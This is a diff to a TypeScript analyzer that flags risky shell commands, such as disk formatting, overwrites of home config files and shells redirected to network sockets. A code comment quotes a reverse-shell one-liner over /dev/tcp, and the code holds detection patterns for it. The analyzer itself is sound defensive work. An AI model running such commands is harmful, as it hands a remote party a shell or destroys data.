@@ -16,16 +16,9 @@ const HARMLESS_DEVICES = /^\/dev\/(null|zero|stdout|stderr|stdin|tty|fd\/\d+|ran
 const NETWORK_FILES = /^\/dev\/(tcp|udp)\//;
 const SHELL_PROGRAMS = new Set(['bash', 'sh', 'zsh', 'dash', 'ksh', 'ash', 'mksh', 'python', 'python3', 'perl', 'ruby', 'php', 'node']);
 
-/** Whether the command being analyzed runs in a fresh container (set per command by fsAnalyzer). */
-let inFreshContainer = false;
-
-/** An absolute or home path inside a fresh container that no bind mount maps: the container's own file. */
-function containerOwn(word: Word): boolean {
-  return inFreshContainer && !word.mounted && !word.dynamic && /^[/~]/.test(word.value);
-}
 
 function target(word: Word, ctx: Context, prefix: string): Fact {
-  if (containerOwn(word)) return { id: `${prefix}.container`, detail: word.value, span: word.span };
+  if (word.containerOwn) return { id: `${prefix}.container`, detail: word.value, span: word.span };
   const cls = word.dynamic && word.value === DYN ? 'dynamic' : classifyPath(word.value, ctx);
   return { id: `${prefix}.${cls}`, detail: word.value.split(DYN).join('…') || word.raw, span: word.span };
 }
@@ -48,10 +41,9 @@ function isFoundPath(w: Word, view: { cmd: { origin: string } }): boolean {
 
 export const fsAnalyzer: Analyzer = ({ view, ctx }) => {
   const facts: Fact[] = [];
-  inFreshContainer = !!view.cmd.container;
   const p = view.program;
   const targets = view.positionals;
-  if (p?.startsWith('mkfs') && formatsImage(targets)) facts.push({ id: 'fs.format-image', detail: targets.find((t) => !/^\d+$/.test(t.value))?.value, span: view.cmd.span });
+  if ((p?.startsWith('mkfs') || p === 'mkswap' || p === 'mke2fs') && formatsImage(targets, ctx)) facts.push({ id: 'fs.format-image', detail: targets.find((t) => !/^\d+$/.test(t.value))?.value, span: view.cmd.span });
   switch (p) {
     case 'rm': case 'unlink': case 'trash': case 'trash-put': {
       const recursive = !!hasFlag(view, ['-r', '-R', '--recursive']);
@@ -90,9 +82,6 @@ export const fsAnalyzer: Analyzer = ({ view, ctx }) => {
       if (!listing && !keeps && targets.length) facts.push({ id: 'system.crontab-replace', detail: targets[0].value, span: targets[0].span });
       break;
     }
-    case 'mkswap': case 'mke2fs':
-      if (formatsImage(targets)) facts.push({ id: 'fs.format-image', detail: targets.find((t) => !/^\d+$/.test(t.value))?.value, span: view.cmd.span });
-      break;
     case 'ddrescue':
       // ddrescue INFILE OUTFILE [MAPFILE]: the output is written over
       if (targets[1]) facts.push(target(targets[1], ctx, 'fs.write'));
@@ -188,16 +177,16 @@ export const fsAnalyzer: Analyzer = ({ view, ctx }) => {
       break;
   }
   // `bash -i >& /dev/tcp/h/4444 0>&1`: a shell whose input or output is a connection serves whoever is at the other end.
-  if (SHELL_PROGRAMS.has(p ?? '') && view.cmd.redirects.some((r) => NETWORK_FILES.test(r.target.value))) {
-    facts.push({ id: 'system.shell-over-network', detail: view.cmd.redirects.find((r) => NETWORK_FILES.test(r.target.value))!.target.value, span: view.cmd.span });
-  }
+  const connection = SHELL_PROGRAMS.has(p ?? '') ? view.cmd.redirects.find((r) => NETWORK_FILES.test(r.target.value)) : undefined;
+  if (connection) facts.push({ id: 'system.shell-over-network', detail: connection.target.value, span: view.cmd.span });
   for (const r of view.cmd.redirects) {
     if (!/^(>|>>|>\||&>|&>>|>&)$/.test(r.op) || HARMLESS_DEVICES.test(r.target.value) || NETWORK_FILES.test(r.target.value) || /^\d+$/.test(r.target.value)) continue;
     // Adding a host key is what ssh-keyscan and the first connection do.
     if (r.op.includes('>>') && /(^|\/)\.ssh\/known_hosts$/.test(r.target.value)) continue;
     const fact = target(r.target, ctx, r.op.includes('>>') ? 'fs.append' : 'fs.write');
-    // In the home directory only its dotfiles are config (`> ~/.bashrc`); `> ~/notes.txt` is a file like any other.
-    if (fact.id === 'fs.write.home-sub' && !homeDotfile(r.target.value, ctx)) continue;
+    // In the home directory, dotfiles and what dot-directories hold are config and programs (`> ~/.bashrc`,
+    // `> ~/.local/bin/git`, `> ~/.config/systemd/user/x.service`); `> ~/notes.txt` is a file like any other.
+    if (fact.id === 'fs.write.home-sub' && !homeDotPath(r.target.value, ctx)) continue;
     facts.push(fact);
   }
   return facts;
@@ -215,7 +204,7 @@ function showOverwrites(positionals: Word[], redirects: { op: string; target: Wo
 const GONE_IN_TMP = new Set(['home', 'home-sub', 'outside', 'system', 'system-file', 'parent']);
 
 /** Caches and trash among the home directory's dotfiles: moving them loses nothing. */
-const HOME_DISPOSABLE = /^\.(cache|npm|yarn|pnpm-store|Trash|local|gradle|m2|cargo|rustup|nvm|bun|deno)$/;
+const HOME_DISPOSABLE = /^\.(cache|npm|yarn|pnpm-store|Trash|gradle|m2|cargo|rustup|nvm|bun|deno)$/;
 
 /** `mv ~/.zshrc /tmp/x`: a dotfile of the home directory moved away is config the shell and tools lose. */
 function movedAway(fact: Fact, word: Word, ctx: Context): Fact {
@@ -225,10 +214,22 @@ function movedAway(fact: Fact, word: Word, ctx: Context): Fact {
 
 /** A dotfile or dot-directory directly in a home directory (`~/.zshrc`, `/Users/a/.gitconfig`), caches and trash aside. */
 function homeDotfile(path: string, ctx: Context): boolean {
+  const rest = homeRelative(path, ctx);
+  return !!rest && /^\.[^/]+$/.test(rest) && !HOME_DISPOSABLE.test(rest) && rest !== '.config';
+}
+
+/** A dotfile of a home directory, or anything under one of its dot-directories (caches and trash aside). */
+function homeDotPath(path: string, ctx: Context): boolean {
+  const first = homeRelative(path, ctx)?.split('/')[0];
+  // toolchain dot-directories (`~/.cargo/bin`, `~/.bun/bin`) hold programs on the PATH: only caches are exempt
+  return !!first && first.startsWith('.') && !/^\.(cache|npm|pnpm-store|Trash|gradle|m2)$/.test(first);
+}
+
+/** The part of a path below a home directory (`~/x`, `$HOME/x`, `/home/u/x`), or undefined. */
+function homeRelative(path: string, ctx: Context): string | undefined {
   const home = ctx.env.HOME?.replace(/\/+$/, '');
   const v = path.replace(/\/+$/, '');
-  const rest = v.startsWith('~/') ? v.slice(2) : home && v.startsWith(home + '/') ? v.slice(home.length + 1) : /^\/(?:home|Users)\/[^/]+\/(.+)$/.exec(v)?.[1];
-  return !!rest && /^\.[^/]+$/.test(rest) && !HOME_DISPOSABLE.test(rest) && rest !== '.config';
+  return v.startsWith('~/') ? v.slice(2) : home && v.startsWith(home + '/') ? v.slice(home.length + 1) : /^\/(?:home|Users)\/[^/]+\/(.+)$/.exec(v)?.[1];
 }
 
 /** Classes of paths inside the project: an absolute-size truncate there makes an image, it does not cut data. */
@@ -350,7 +351,8 @@ export function riskyMode(mode: string): boolean {
 }
 
 /** mkfs/mkswap given a regular file (`mkfs.ext4 disk.img`, `mkfs.vfat -C /tmp/fat.img 8192`): an image, not a disk. */
-function formatsImage(targets: Word[]): boolean {
+function formatsImage(targets: Word[], ctx: Context): boolean {
   const paths = targets.filter((t) => !/^\d+[KMGT]?$/i.test(t.value));
-  return paths.length > 0 && paths.every((t) => !t.dynamic && !t.value.startsWith('/dev/') && /[./]/.test(t.value));
+  // judged where it points (`cd / && mkfs.ext4 dev/sdb` is a device)
+  return paths.length > 0 && paths.every((t) => !t.dynamic && /[./]/.test(t.value) && classifyPath(t.value, ctx) !== 'device');
 }
